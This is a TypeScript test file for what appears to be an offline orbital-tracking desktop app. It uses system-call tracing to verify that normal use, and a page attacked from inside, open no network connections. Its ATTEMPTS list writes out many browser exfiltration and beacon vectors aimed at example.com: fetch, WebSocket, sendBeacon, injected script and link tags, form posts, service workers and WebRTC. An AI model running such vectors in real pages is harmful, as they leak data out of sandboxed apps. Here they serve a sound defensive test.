import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { expect, test } from 'vitest';
import { walkerElements } from '../../shared/astro/index.ts';
import { utcMs } from '../../shared/domain/index.ts';
import { ommJsonFromElement } from '../../shared/formats/index.ts';
import { canTrace, openTracedApp, type TracedApp } from '../support/pipedApp.ts';
import { mustSucceed } from '../support/results.ts';

/** Longer than any look-up, time-out or retry that the attempts below could start. */
const SETTLE_MS = 4_000;

/** WebRTC out of a window's own constructor, with an offer, which makes it gather addresses. */
function connectPeer(owner: string): string {
  return `(async () => {
    const peer = new ${owner}.RTCPeerConnection({ iceServers: [{ urls: 'stun:93.184.216.34:3478' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  })()`;
}

/** Everything a hostile page could try; each line is run for itself, and what it throws is part of the try. */
const ATTEMPTS = [
  "fetch('https://example.com/')",
  "fetch('http://93.184.216.34/', { mode: 'no-cors', keepalive: true })",
  "new WebSocket('ws://93.184.216.34:8080/')",
  "new EventSource('https://example.com/events')",
  "new WebTransport('https://example.com:4433/')",
  "navigator.sendBeacon('https://example.com/beacon', 'data')",
  "new Image().src = 'https://example.com/pixel.png'",
  "new Audio('https://example.com/a.mp3').play()",
  "window.open('https://example.com/')",
  "Object.assign(document.body.appendChild(document.createElement('iframe')), { src: 'https://example.com/' })",
  "Object.assign(document.body.appendChild(document.createElement('object')), { data: 'https://example.com/' })",
  "Object.assign(document.head.appendChild(document.createElement('script')), { src: 'https://example.com/x.js' })",
  ...['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload', 'stylesheet', 'icon', 'prerender'].map(
    (rel) =>
      `Object.assign(document.head.appendChild(document.createElement('link')), { rel: '${rel}', href: 'https://${rel}.example.com/' })`,
  ),
  'Object.assign(document.head.appendChild(document.createElement(\'script\')), { type: \'speculationrules\', textContent: \'{"prefetch":[{"source":"list","urls":["https://example.com/"]}]}\' })',
  "Object.assign(document.head.appendChild(document.createElement('style')), { textContent: '@import url(https://example.com/a.css); body { background: url(https://example.com/b.png) } @font-face { font-family: f; src: url(https://example.com/f.woff2) } * { font-family: f }' })",
  "(() => { const form = document.body.appendChild(document.createElement('form')); form.action = 'https://example.com/'; form.method = 'post'; form.submit(); })()",
  "(() => { const link = document.body.appendChild(document.createElement('a')); link.href = 'https://example.com/'; link.ping = 'https://example.com/ping'; link.click(); })()",
  "Object.assign(document.head.appendChild(document.createElement('meta')), { httpEquiv: 'refresh', content: '0; url=https://example.com/' })",
  "navigator.serviceWorker.register('https://example.com/sw.js')",
  "new Worker('https://example.com/worker.js')",
  'new Worker(URL.createObjectURL(new Blob(["fetch(\'https://example.com/\')"])))',
  "location.href = 'https://example.com/'",
  connectPeer('window'),
] as const;

/** A call of the contract, as the page makes it. */
function call(app: TracedApp, name: string, input: unknown): Promise<unknown> {
  return app.evaluate(`window.backbone.call(${JSON.stringify(name)}, ${input === undefined ? '{}' : input})`);
}

async function waitForRun(app: TracedApp): Promise<void> {
  await expect
    .poll(
      () => app.evaluate("window.backbone.call('access.latest', {}).then((a) => a.ok && a.value !== null)"),
      {
        timeout: 60_000,
        interval: 300,
      },
    )
    .toBe(true);
}

test.skipIf(!canTrace)(
  'verify by system call that a day’s work, and a page attacked from inside, contact nothing',
  { timeout: 180_000 },
  async () => {
    const app = await openTracedApp();
    const csv = path.join(app.dataFolder, 'windows.csv');
    await waitForRun(app);
    const fleet = path.join(app.dataFolder, 'fleet.json');
    await writeFile(fleet, fleetText());
    expect(await call(app, 'catalogue.import', JSON.stringify({ paths: [fleet] }))).toMatchObject({
      ok: true,
    });
    expect(await call(app, 'access.start', undefined)).toMatchObject({ ok: true });
    await waitForRun(app);
    const exported = await app.evaluate(
      `window.backbone.call('access.latest', {}).then(({ value }) => window.backbone.call('export.windowsCsv', { runId: value.runId, rows: Uint32Array.of(0, 1, 2), path: ${JSON.stringify(csv)} }))`,
    );
    expect(exported).toMatchObject({ ok: true });
    expect(await readFile(csv, 'utf8')).toContain('startUtc');
    for (const attempt of ATTEMPTS) {
      await tryInPage(app, attempt);
    }
    await sleep(SETTLE_MS);
    expect(await app.evaluate('location.href')).toBe('app://local/');
    const { lines, endedByItself } = await app.close();
    expect(endedByItself).toBe(true);
    // Sockets to the display show that it was watched.
    expect(lines.some((line) => line.includes('AF_UNIX'))).toBe(true);
    expect(lines.filter((line) => /AF_INET6?\b|<(TCP|UDP)/.test(line)).slice(0, 20)).toEqual([]);
  },
);

// An empty frame brings a constructor of its own, which nothing can take away in time. It asks the kernel for its
// addresses; what counts is that not a byte is sent and no connection is begun.
test.skipIf(!canTrace)(
  'verify that WebRTC in a smuggled frame sends nothing',
  { timeout: 180_000 },
  async () => {
    const app = await openTracedApp();
    await waitForRun(app);
    await app.evaluate("document.body.appendChild(document.createElement('iframe')) && null");
    await tryInPage(app, connectPeer('window[0]'));
    await sleep(SETTLE_MS);
    const { lines } = await app.close();
    expect(lines.some((line) => line.includes('AF_UNIX'))).toBe(true);
    expect(lines.filter((line) => /<TCP|^(send|listen).*(<UDP|AF_INET)/.test(line))).toEqual([]);
  },
);

async function tryInPage(app: TracedApp, attempt: string): Promise<void> {
  const patience = 'new Promise((resolve) => setTimeout(resolve, 300))';
  await app.evaluate(`(async () => { try { await Promise.race([${attempt}, ${patience}]); } catch {} })()`);
}

function fleetText(): string {
  const elements = walkerElements({
    name: 'AIR GAP',
    altitudeKm: 600,
    inclinationDeg: 60,
    planes: 4,
    perPlane: 5,
    phasing: 0,
    epochUtcMs: utcMs(Date.UTC(2026, 10, 21, 18)),
    pattern: 'delta',
    firstId: 951_000_001,
  });
  return JSON.stringify(mustSucceed(elements).map(ommJsonFromElement));
}
